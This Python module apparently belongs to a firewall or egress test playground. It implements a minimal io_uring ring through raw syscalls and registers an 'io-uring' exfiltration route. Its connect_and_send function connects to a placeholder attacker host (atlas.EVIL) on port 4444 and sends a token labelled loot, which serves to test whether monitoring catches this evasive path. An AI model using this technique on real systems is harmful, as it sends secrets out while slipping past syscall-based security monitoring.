"""The way out through io_uring, which makes system calls without calling them.

Law: the ring, as little of it as one connect and one send need (io_uring(7), <linux/io_uring.h>).
"""

from __future__ import annotations

import ctypes
import mmap
import os
import socket
import struct

from dnsfw.playground import atlas
from dnsfw.playground.package.way import Loot, Way

_SYS_SETUP, _SYS_ENTER = 425, 426  # the same on every architecture
_OFFSET_SQ_RING, _OFFSET_SQES = 0, 0x10000000
_GETEVENTS = 1
_OP_CONNECT, _OP_SEND = 16, 26
_ENTRIES = 1
_SQE = struct.Struct(
    "=BBHiQQIIQ"
)  # opcode, flags, ioprio, fd, off/addr2, addr, len, op flags, user data; then 24 bytes

_libc = ctypes.CDLL(None, use_errno=True)


class Ring:
    """One submission at a time. Raises OSError where the kernel has io_uring switched off."""

    def __init__(self) -> None:
        params = ctypes.create_string_buffer(120)
        self._fd = _checked(_libc.syscall(_SYS_SETUP, _ENTRIES, params))
        self._sq = struct.unpack_from(
            "=10I", params.raw, 40
        )  # head, tail, ring_mask, ring_entries, flags, dropped, array
        self._cq = struct.unpack_from("=10I", params.raw, 80)  # head, tail, ring_mask, ring_entries, overflow, cqes
        size = max(self._sq[6] + 4 * _ENTRIES, self._cq[5] + 16 * 2 * _ENTRIES)
        self._ring = mmap.mmap(self._fd, size, offset=_OFFSET_SQ_RING)  # IORING_FEAT_SINGLE_MMAP, since Linux 5.4
        self._sqes = mmap.mmap(self._fd, 64 * _ENTRIES, offset=_OFFSET_SQES)

    def submit(self, opcode: int, fd: int, address: int, *, length: int = 0, offset: int = 0) -> int:
        """Do one operation; its result. Raises OSError."""
        self._sqes[0:64] = _SQE.pack(opcode, 0, 0, fd, offset, address, length, 0, 1).ljust(64, b"\0")
        tail = self._word(self._sq[1])
        self._set_word(self._sq[6] + 4 * (tail & self._word(self._sq[2])), 0)
        self._set_word(self._sq[1], tail + 1)
        _checked(_libc.syscall(_SYS_ENTER, self._fd, 1, 1, _GETEVENTS, None, 0))
        head = self._word(self._cq[0])
        entry = self._cq[5] + 16 * (head & self._word(self._cq[2]))
        (result,) = struct.unpack_from("=i", self._ring, entry + 8)
        self._set_word(self._cq[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return int(result)

    def close(self) -> None:
        self._sqes.close()
        self._ring.close()
        os.close(self._fd)

    def _word(self, offset: int) -> int:
        return int(struct.unpack_from("=I", self._ring, offset)[0])

    def _set_word(self, offset: int, value: int) -> None:
        struct.pack_into("=I", self._ring, offset, value)


def _checked(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def connect_and_send(loot: Loot) -> None:
    name = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 4444) + socket.inet_aton(atlas.EVIL.v4) + bytes(8)
    address, data = ctypes.create_string_buffer(name, 16), ctypes.create_string_buffer(loot.token.encode(), 16)
    ring = Ring()
    with socket.socket(socket.AF_INET) as telling:
        telling.settimeout(None)  # the ring would report EINPROGRESS
        ring.submit(_OP_CONNECT, telling.fileno(), ctypes.addressof(address), offset=16)
        ring.submit(_OP_SEND, telling.fileno(), ctypes.addressof(data), length=16)
    ring.close()


WAYS = (Way("io-uring", "TCP without system calls (io_uring)", (24,), connect_and_send),)
